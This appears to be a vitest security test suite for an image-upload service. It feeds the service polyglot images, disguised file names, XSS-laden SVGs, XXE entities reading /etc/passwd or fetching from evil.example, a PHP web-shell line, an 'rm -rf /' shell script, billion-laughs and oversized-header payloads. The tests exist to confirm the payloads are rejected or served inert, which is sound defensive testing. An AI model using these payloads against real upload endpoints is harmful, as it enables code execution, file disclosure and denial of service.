import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pictureFile, pngHeader } from '../pictureFiles.ts';
import { type SentFile, signIn, startTestApp, type TestApp } from '../testApp.ts';
import { contentOf, expectInert, lettersFile, problemOf } from './attackCalls.ts';

const PICTURES = '/oss/uploadImg';
const SCRIPT = '<script>alert(1)</script>';
const SVG = 'http://www.w3.org/2000/svg';

let test: TestApp;
let ana: Awaited<ReturnType<typeof signIn>>;
beforeAll(async () => {
  test = await startTestApp();
  ana = await signIn(test, 'ana@example.com');
});
afterAll(() => test.close());

const joined = (...parts: readonly (Uint8Array | string)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => Buffer.from(part))));
const upload = (path: string, file: SentFile) => test.upload(path, file, ana);
const incoming = () => readdirSync(join(test.folder, 'incoming'));
const svg = (inside: string, before = '') =>
  lettersFile('a.svg', `${before}<svg xmlns="${SVG}" width="9" height="9">${inside}</svg>`);
const gif = async () => (await pictureFile('gif', { r: 1, g: 2, b: 3 })).bytes;
const png = async () => (await pictureFile('png', { r: 1, g: 2, b: 3 })).bytes;
const jpg = async () => (await pictureFile('jpg', { r: 1, g: 2, b: 3 })).bytes;

describe('uploaded image with other content in it', () => {
  it.each<readonly [string, string, string, () => Promise<Uint8Array>]>([
    [
      'a GIF that is also a script',
      'a.gif',
      'image/gif',
      async () => joined(await gif(), '/*', '*/=1;alert(1)'),
    ],
    ['a GIF followed by HTML', 'a.gif', 'image/gif', async () => joined(await gif(), `<html>${SCRIPT}`)],
    ['a PNG followed by HTML', 'a.png', 'image/png', async () => joined(await png(), `<html>${SCRIPT}`)],
    [
      'a PNG followed by a zip',
      'a.png',
      'image/png',
      async () => joined(await png(), zipSync({ 'a.html': joined(SCRIPT) })),
    ],
    [
      'a PNG followed by a PDF',
      'a.png',
      'image/png',
      async () => joined(await png(), '%PDF-1.7\n/OpenAction /JS (alert)'),
    ],
    [
      'a JPEG followed by PHP',
      'a.jpg',
      'image/jpeg',
      async () => joined(await jpg(), '<?php system($_GET[0]); ?>'),
    ],
    ['a JPEG named a.JPG followed by HTML', 'a.JPG', 'image/jpeg', async () => joined(await jpg(), SCRIPT)],
    ['a BMP that contains HTML', 'a.bmp', 'image/bmp', async () => bmp(SCRIPT)],
  ])('is served only with its image type and inert headers: %s', async (_, name, type, bytesOf) => {
    const answer = await upload(PICTURES, { name, bytes: new Uint8Array(await bytesOf()) });
    expect([answer.code, answer.msg]).toEqual([200, 'success']);
    const shown = await test.fetch(`/oss/${answer.data.key}`);
    expect(shown.statusCode).toBe(200);
    expectInert(shown.headers, type);
  });
  const bmp = (text: string) => {
    const bytes = new Uint8Array(58 + text.length);
    bytes.set([
      0x42, 0x4d, 58, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 24,
    ]);
    bytes.set(new TextEncoder().encode(text), 58);
    return bytes;
  };

  it.each<readonly [string, string, () => Promise<Uint8Array | string>]>([
    ['HTML', 'a.png', async () => `<!doctype html>${SCRIPT}`],
    ['XHTML named a.svg', 'a.svg', async () => `<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`],
    ['HTML with an SVG in it', 'a.svg', async () => `<html><svg xmlns="${SVG}">${SCRIPT}</svg></html>`],
    ['a script before an SVG', 'a.svg', async () => `${SCRIPT}<svg xmlns="${SVG}"/>`],
    ['an SVG named a.png', 'a.png', async () => `<svg xmlns="${SVG}"/>`],
    ['an SVG named a.gif', 'a.gif', async () => `<svg xmlns="${SVG}">${SCRIPT}</svg>`],
    ['a PNG named a.svg', 'a.svg', png],
    ['a PNG named a.html', 'a.html', png],
    ['a PNG named a.png.html', 'a.png.html', png],
    ['a PNG with an extension after a NUL byte', 'a.png\u0000.html', png],
    ['a PNG without an extension', 'png', png],
    ['a PNG whose name ends in a dot', 'a.png.', png],
    ['a PNG whose name ends in a space and a dot', 'a.png .', png],
    ['a GIF named a.jpg', 'a.jpg', gif],
    ['a JPEG named a.png', 'a.png', jpg],
    ['a PNG named as an NTFS stream', 'a.png::$DATA', png],
    ['a PDF', 'a.png', async () => '%PDF-1.7\n'],
    ['a zip', 'a.png', async () => zipSync({ 'a.png': joined('x') })],
    ['a script', 'a.gif', async () => 'alert(1)//GIF89a'],
    ['a GIF signature after a script', 'a.gif', async () => `x=1;//\nGIF89a${SCRIPT}`],
    ['a PNG without its first byte', 'a.png', async () => (await png()).slice(1)],
    ['an executable', 'a.png', async () => joined('MZ', new Uint8Array(200))],
    ['a shell script', 'a.bmp', async () => '#!/bin/sh\nrm -rf /\n'],
    ['an XSL style sheet', 'a.svg', async () => '<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="x"/>'],
    ['an empty file', 'a.png', async () => ''],
    ['zeros', 'a.png', async () => new Uint8Array(4096)],
    ['a Windows icon', 'a.ico', async () => new Uint8Array([0, 0, 1, 0, 1, 0])],
    ['HEIC', 'a.png', async () => joined('\0\0\0\u0018ftypheic', new Uint8Array(40))],
    ['PostScript', 'a.svg', async () => '%!PS-Adobe-3.0\n(/etc/passwd) run'],
    [
      'ImageMagick’s own language',
      'a.svg',
      async () => 'push graphic-context\nfill url(https://evil.example)',
    ],
  ])('is rejected and not stored: %s', async (_, name, bytesOf) => {
    const before = await contentOf(test.store);
    const answer = await upload(PICTURES, { name, bytes: joined(await bytesOf()) });
    expect([answer.status, problemOf(answer)]).toEqual([400, 'pictureInvalid']);
    expect([await contentOf(test.store), incoming()]).toEqual([before, []]);
  });

  it.each<readonly [string, number, number]>([
    ['60,000 by 60,000', 60_000, 60_000],
    ['the largest 32-bit width and height', 0xffffffff, 0xffffffff],
    ['one row of 2,147,483,647 pixels', 0x7fffffff, 1],
    ['one column of 2,147,483,647 pixels', 1, 0x7fffffff],
    ['a pixel count beyond 32 bits', 65_536, 65_537],
    ['16,385 pixels in width', 16_385, 1],
    ['51 megapixels', 10_000, 5_100],
  ])('is rejected for the size in its header: a PNG of %s', async (_, widthPx, heightPx) => {
    const before = await contentOf(test.store);
    const answer = await upload(PICTURES, { name: 'a.png', bytes: pngHeader(widthPx, heightPx) });
    expect([answer.status, problemOf(answer)]).toEqual([400, 'pictureTooManyPixels']);
    expect([await contentOf(test.store), incoming()]).toEqual([before, []]);
  });

  it.each<readonly [string, number, number]>([
    ['no width', 0, 10],
    ['no height', 10, 0],
  ])('is rejected as damaged: a PNG of %s', async (_, widthPx, heightPx) => {
    const answer = await upload(PICTURES, { name: 'a.png', bytes: pngHeader(widthPx, heightPx) });
    expect([answer.status, problemOf(answer)]).toEqual([400, 'pictureDamaged']);
  });
});

describe('uploaded SVG', () => {
  const DOCTYPE = (entities: string) => `<!DOCTYPE svg [${entities}]>`;
  const laughs = Array.from({ length: 10 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`);
  it.each<readonly [string, SentFile]>([
    ['a script', svg(SCRIPT)],
    ['a script from another site', svg('<script href="https://evil.example/x.js"/>')],
    ['a script in CDATA', svg('<script><![CDATA[alert(1)]]></script>')],
    ['an event handler', lettersFile('a.svg', `<svg xmlns="${SVG}" onload="alert(1)"/>`)],
    ['a handler in an animation', svg('<animate attributeName="x" onbegin="alert(1)"/>')],
    ['a javascript: link', svg('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>')],
    ['an animation that sets a link', svg('<set attributeName="href" to="javascript:alert(1)"/>')],
    [
      'embedded HTML',
      svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</body></foreignObject>`),
    ],
    ['an iframe', svg('<foreignObject><iframe src="https://evil.example"/></foreignObject>')],
    ['a picture from another site', svg('<image href="https://evil.example/pixel.png"/>')],
    ['a picture from the server’s disk', svg('<image href="file:///etc/passwd"/>')],
    ['a style sheet from another site', svg('<style>@import url(https://evil.example/x.css);</style>')],
    ['an xml-stylesheet instruction', svg('', '<?xml-stylesheet href="https://evil.example/x.xsl"?>')],
    ['a reference to itself', svg('<use href="#a" id="a"/>')],
    ['a reference to another drawing', svg('<use href="https://evil.example/a.svg#x"/>')],
    ['an entity', svg('<text>&x;</text>', DOCTYPE('<!ENTITY x "y">'))],
    ['a file entity', svg('<text>&x;</text>', DOCTYPE('<!ENTITY x SYSTEM "file:///etc/passwd">'))],
    ['a URL entity', svg('<text>&x;</text>', DOCTYPE('<!ENTITY x SYSTEM "http://127.0.0.1/">'))],
    ['a parameter entity', svg('', DOCTYPE('<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;'))],
    [
      'nested entities (billion laughs)',
      svg('<text>&l10;</text>', DOCTYPE(`<!ENTITY l0 "ha">${laughs.join('')}`)),
    ],
    ['entities that refer to each other', svg('&a;', DOCTYPE('<!ENTITY a "&b;"><!ENTITY b "&a;">'))],
    ['a width and height of 1e9', lettersFile('a.svg', `<svg xmlns="${SVG}" width="1e9" height="1e9"/>`)],
    ['1000 nested groups', svg(`${'<g>'.repeat(1000)}${'</g>'.repeat(1000)}`)],
    ['a script after a byte order mark', svg(SCRIPT, '\ufeff')],
  ])('with %s is rejected, or served as a download that runs no script', async (_, file) => {
    const answer = await upload(PICTURES, file);
    if (answer.code !== 200) {
      expect([answer.status, String(problemOf(answer)).startsWith('picture')]).toEqual([400, true]);
      return;
    }
    const { key } = answer.data;
    for (const query of ['', '?format=jpg', '?t=1']) {
      const shown = await test.fetch(`/oss/${key}${query}`, { headers: { accept: 'text/html,*/*' } });
      expectInert(shown.headers, 'image/svg+xml');
      expect(shown.headers['content-disposition']).toBe(`attachment; filename*=UTF-8''${key}`);
      expect(shown.headers['content-security-policy']).not.toMatch(/allow-|script-src/);
      expect(shown.rawPayload.equals(Buffer.from(file.bytes))).toBe(true);
    }
    expect(key).toMatch(/^[0-9a-f]{64}\.svg$/);
  });
});
